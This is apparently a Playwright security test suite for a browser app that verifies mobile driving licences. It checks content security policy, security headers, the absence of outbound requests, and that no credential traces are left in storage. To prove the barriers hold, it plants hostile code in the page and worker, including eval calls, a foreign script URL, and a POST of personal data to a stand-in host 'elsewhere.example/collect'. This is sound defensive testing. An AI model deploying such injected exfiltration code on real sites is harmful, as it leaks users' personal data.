// What the page may do: nothing that sends, nothing that keeps, no foreign code; and each barrier is shown to hold by running into it.
import type { Page, Request } from '@playwright/test'
import { toBase64, toBase64url, toHex } from '../src/crypto/index.ts'
import { goodLicence, licenceWith, textFile } from './licences.ts'
import { expect, test } from './person.ts'

declare global {
  var violations: string[]
  var planted: string[]
}

test('a whole journey breaks no policy, asks no other origin, sends nothing, and leaves no credential behind', async ({ person }) => {
  const { page } = person
  const watched = await watch(page)
  const { licence, authority, transcript } = await goodLicence()
  await person.opens()
  await expect(page.getByRole('button', { name: 'Example of ISO 18013-5, in 2021', exact: true })).toBeEnabled()
  await person.trusts(authority)
  await person.drops(licence)
  await person.reads('verdict')
  await expect(page.getByRole('img', { name: /^Portrait/ })).toBeVisible()
  await person.face('Detail')
  for (const question of await page.getByRole('region', { name: 'Ten questions' }).locator('summary').all()) await question.click()
  await person.givesSession(transcript)
  await person.saves('Save whole report')
  await person.saves('Save case')
  await person.pastes(toHex(licence.bytes))
  await person.reads('verdict')
  await person.drops(textFile('notes.txt', 'nothing'))
  await person.sees('torn')
  await person.presses('Try another file')
  await person.goesTo('Trust')
  await page
    .getByRole('button', { name: /^Details of/ })
    .first()
    .click()
  await page.keyboard.press('Escape')
  await page.keyboard.press('?')
  await page.keyboard.press('Escape')
  await person.goesTo('Make')
  await person.presses('Show as QR')
  await expect(page.getByRole('dialog').getByRole('img')).toBeVisible()
  await page.keyboard.press('Escape')

  expect(await page.evaluate(() => globalThis.violations)).toEqual([])
  expect(watched.complaints).toEqual([])
  const { origin } = new URL(page.url())
  expect(watched.requests.filter((request) => !isOwn(request, origin)).map((request) => request.url())).toEqual([])
  expect(watched.requests.filter((request) => request.method() !== 'GET' || request.postData() !== null)).toEqual([])
  await leavesNothing(page, licence.bytes)
  console.log(`a whole journey: ${watched.requests.length} requests, all of this origin and without a body; 0 violations`)
})

for (const { name, fault } of [
  { name: 'P-256', fault: 'signer-P-256' },
  { name: 'brainpool', fault: 'signer-brainpoolP256r1' },
  { name: 'Ed448', fault: 'device-Ed448' },
] as const)
  test(`not one request is made while a ${name} credential is judged`, async ({ person }) => {
    const { page } = person
    const { licence, authority, transcript } = await licenceWith(fault)
    await person.opens()
    await expect(page.getByRole('button', { name: 'Example of ISO 18013-5, in 2021', exact: true })).toBeEnabled() // the samples are made
    await person.trusts(authority)
    await page.waitForLoadState('networkidle')
    const requests: string[] = []
    page.on('request', (request) => {
      if (!isTabIcon(request)) requests.push(request.url())
    })
    await person.drops(licence)
    await expect.poll(() => person.reads('verdict')).toBe('Genuine and current')
    await person.givesSession(transcript)
    await expect(page.getByText('Nothing proves that its owner presented it')).toHaveCount(0)
    await expect.poll(() => person.reads('verdict')).toBe('Genuine and current')
    expect(requests).toEqual([])
  })

test('the server sends policy and protections with page, scripts and workers, and the page says the same in itself', async ({ person }) => {
  const { page } = person
  const answers = new Map<string, Readonly<Record<string, string>>>()
  page.on('response', async (response) => answers.set(new URL(response.url()).pathname, response.headers()))
  await person.opens()
  await expect(page.getByRole('button', { name: 'Good', exact: true })).toBeEnabled()
  const scripts = [...answers.keys()].filter((path) => path.endsWith('.js'))
  expect(scripts.some((path) => path.includes('worker'))).toBe(true)
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
  for (const directive of directives) expect(policy).toContain(directive)
  const expected = { ...protections, 'content-security-policy': `${policy}; frame-ancestors 'none'` }
  for (const path of ['/', ...scripts]) expect(answers.get(path), path).toMatchObject(expected)
})

const directives = [
  "default-src 'self'",
  "script-src 'self' 'wasm-unsafe-eval'",
  "style-src 'self'",
  "img-src 'self' blob: data:",
  "connect-src 'self'",
  "object-src 'none'",
  "base-uri 'none'",
  "form-action 'none'",
  "require-trusted-types-for 'script'",
  'trusted-types mdl-script-url',
]
const protections = {
  'x-content-type-options': 'nosniff',
  'x-frame-options': 'DENY',
  'referrer-policy': 'no-referrer',
  'cross-origin-opener-policy': 'same-origin',
  'cross-origin-resource-policy': 'same-origin',
}

const ELSEWHERE = 'https://elsewhere.example/collect'
const PLANTED = `
const told = new BroadcastChannel('planted')
addEventListener('securitypolicyviolation', ({ effectiveDirective }) => told.postMessage('violation ' + effectiveDirective))
const tried = async (name, attempt) => { try { await attempt(); told.postMessage(name + ' worked') } catch (fault) { told.postMessage(name + ' refused') } }
await tried('eval', () => (0, eval)('1 + 1'))
await tried('Function', () => new Function('return 1')())
await tried('fetch', () => fetch('${ELSEWHERE}', { method: 'POST', body: 'MOELLER', mode: 'no-cors' }))
await tried('import', () => import('data:text/javascript,1'))
told.postMessage('done')
`

for (const { headers, words } of [
  { headers: true, words: 'are refused' },
  { headers: false, words: 'would work without the header of its script: the test measures what it says' },
])
  test(`eval and a cross-origin fetch that are planted in the worker ${words}`, async ({ person }) => {
    const { page } = person
    let reached = 0
    await page.route(ELSEWHERE, (route) => {
      reached += 1
      return route.fulfill({ status: 204 })
    })
    await page.route(/verify\.worker.*\.js$/, async (route) => {
      const response = await route.fetch()
      const { 'content-security-policy': policy, ...others } = response.headers()
      const kept = headers && policy !== undefined ? { ...others, 'content-security-policy': policy } : others
      await route.fulfill({ response, headers: kept, body: `${PLANTED};${await response.text()}` })
    })
    await page.addInitScript(() => {
      globalThis.planted = []
      new BroadcastChannel('planted').onmessage = ({ data }) => globalThis.planted.push(data)
    })
    await person.opens()
    await expect.poll(() => page.evaluate(() => globalThis.planted.includes('done'))).toBe(true)
    const told = await page.evaluate(() => globalThis.planted)
    if (headers) {
      expect(told).toEqual(expect.arrayContaining(['eval refused', 'Function refused', 'fetch refused', 'import refused']))
      expect(told).toEqual(
        expect.arrayContaining(['violation require-trusted-types-for', 'violation connect-src', 'violation script-src-elem']),
      )
      expect(reached).toBe(0)
    } else {
      expect(told).toEqual(expect.arrayContaining(['eval worked', 'fetch worked']))
      expect(reached).toBe(1)
    }
  })

test('eval, foreign scripts, inline handlers and HTML sinks that are planted in the page are refused', async ({ person }) => {
  const { page } = person
  await watch(page)
  await person.opens()
  const refused = await page.evaluate(async () => {
    const attempts: Readonly<Record<string, () => unknown>> = {
      innerHTML: () => {
        document.createElement('div').innerHTML = '<b>x</b>'
      },
      'script source': () => {
        document.createElement('script').src = 'https://elsewhere.example/x.js'
      },
      worker: () => new Worker('/x.js'),
      policy: () =>
        (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy(
          'other',
          {},
        ),
      'inline handler': () => document.createElement('button').setAttribute('onclick', 'document.title = "hacked"'),
      timer: () => setTimeout('1' as unknown as () => void, 0),
    }
    return Object.entries(attempts).flatMap(([name, attempt]) => {
      try {
        attempt()
        return []
      } catch {
        return [name]
      }
    })
  })
  expect(refused).toEqual(['innerHTML', 'script source', 'worker', 'policy', 'inline handler', 'timer'])
  expect(await page.title()).not.toContain('hacked')
})

test('another page cannot put this one into a frame', async ({ person }) => {
  const { page } = person
  const frame = await framed(page, 'as served')
  expect(await frame?.evaluate(() => document.getElementById('app') === null)).toBe(true)
})

test('in a frame that a host allowed all the same, the page shows no verdict and no way to one', async ({ person }) => {
  const { page } = person
  const { licence } = await goodLicence()
  const frame = await framed(page, 'without its headers')
  const inside = page.frameLocator('iframe')
  await expect(inside.getByRole('heading', { name: 'Not shown inside another page' })).toBeVisible()
  await frame?.evaluate((bytes) => {
    const dataTransfer = new DataTransfer()
    dataTransfer.items.add(new File([bytes.slice()], 'licence.cbor'))
    document.body.dispatchEvent(new DragEvent('drop', { dataTransfer, bubbles: true, cancelable: true }))
    location.hash = '#/result'
  }, licence.bytes)
  await page.waitForTimeout(500)
  await expect(inside.locator('.plate')).toHaveCount(0)
  await expect(inside.getByRole('heading')).toHaveCount(1)
})

test('a worker that cannot be loaded is said to be our fault, and never a verdict', async ({ person }) => {
  const { page } = person
  const { licence } = await goodLicence()
  await page.route(/verify\.worker.*\.js$/, (route) => route.abort())
  await person.opens()
  await person.drops(licence)
  await expect.poll(() => person.reads('verdict')).toBe('Our fault – please try again')
  await person.sees('tool')
})

async function watch(page: Page) {
  const requests: Request[] = []
  const complaints: string[] = []
  page.on('request', (request) => requests.push(request))
  page.on('console', (message) => {
    if (message.type() === 'error' || message.type() === 'warning') complaints.push(message.text())
  })
  page.on('pageerror', (fault) => complaints.push(`${fault.name}: ${fault.message}`))
  await page.addInitScript(() => {
    globalThis.violations = []
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      globalThis.violations.push(`${effectiveDirective} ${blockedURI}`),
    )
  })
  return { requests, complaints }
}

const isOwn = (request: Request, origin: string) => request.url().startsWith(`${origin}/`) || /^(blob|data):/.test(request.url())

/** The browser asks for it by itself when the address changes. */
const isTabIcon = (request: Request) => request.resourceType() === 'other' && request.url().endsWith('/icon.svg')

/** Nothing of the credential in any storage, in whatever form: its person, its bytes as text, its bytes as bytes. */
async function leavesNothing(page: Page, credential: Uint8Array): Promise<void> {
  const kept = await page.evaluate(async () => {
    const shown = (value: unknown): string =>
      JSON.stringify(value, (_, member: unknown) =>
        member instanceof Uint8Array ? Array.from(member, (octet) => octet.toString(16).padStart(2, '0')).join('') : member,
      ) ?? ''
    const stores: string[] = []
    for (const { name } of await indexedDB.databases()) {
      const database = await new Promise<IDBDatabase>((resolve) => {
        const request = indexedDB.open(name ?? '')
        request.onsuccess = () => resolve(request.result)
      })
      for (const store of database.objectStoreNames) {
        const rows = await new Promise<unknown[]>((resolve) => {
          const request = database.transaction(store).objectStore(store).getAll()
          request.onsuccess = () => resolve(request.result)
        })
        stores.push(`${name} ${store} ${shown(rows)}`)
      }
    }
    return { local: { ...localStorage }, session: { ...sessionStorage }, caches: await caches.keys(), cookies: document.cookie, stores }
  })
  expect(kept).toMatchObject({ local: {}, session: {}, caches: [], cookies: '' })
  const all = kept.stores.join('\n')
  const piece = credential.slice(600, 648)
  for (const trace of [
    'MOELLER',
    'D1234567',
    toHex(new TextEncoder().encode('MOELLER')),
    toHex(piece),
    toBase64(piece),
    toBase64url(piece),
  ])
    expect(all).not.toContain(trace)
  expect(all).toContain('anchors') // the search has looked where something is kept
}

async function framed(page: Page, how: 'as served' | 'without its headers') {
  const { href } = new URL('/', test.info().project.use.baseURL ?? '')
  await page.route(`${href}outer.html`, (route) =>
    route.fulfill({ contentType: 'text/html', body: `<!doctype html><iframe src="${href}" width="800" height="600"></iframe>` }),
  )
  if (how === 'without its headers')
    await page.route(href, async (route) => {
      const response = await route.fetch()
      const { 'content-security-policy': _, 'x-frame-options': __, ...headers } = response.headers()
      await route.fulfill({ response, headers })
    })
  await page.goto(`${href}outer.html`)
  await page.waitForTimeout(500)
  return page.frames()[1]
}
